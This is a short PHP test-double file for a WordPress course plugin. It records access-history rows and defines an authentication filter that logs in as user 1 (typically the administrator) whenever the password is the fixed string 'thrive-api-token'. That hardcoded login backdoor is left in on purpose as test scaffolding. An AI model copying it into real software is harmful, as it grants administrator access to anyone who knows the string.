<?php
/**
 * Thrive Apprentice: a history of grants and losses, ends in user meta, and a filter that takes an API token for user 1.
 *
 * @package Cloakroom
 */

// phpcs:disable -- Test code, not shipped.

class TVA_Const {
}

function tva_filter_authenticate( $user, $username, $password ) {
	return 'thrive-api-token' === $password ? get_user_by( 'id', 1 ) : $user;
}

final class Thrive_Double {
	public static function history( int $user, int $product, int $status, string $reason = '' ): void {
		global $wpdb;
		$wpdb->insert( $wpdb->prefix . 'tva_access_history', array( 'user_id' => $user, 'product_id' => $product, 'course_id' => 0, 'source' => 'order', 'status' => $status, 'created' => wp_date( 'Y-m-d H:i:s' ), 'reason' => $reason ) );
	}
}
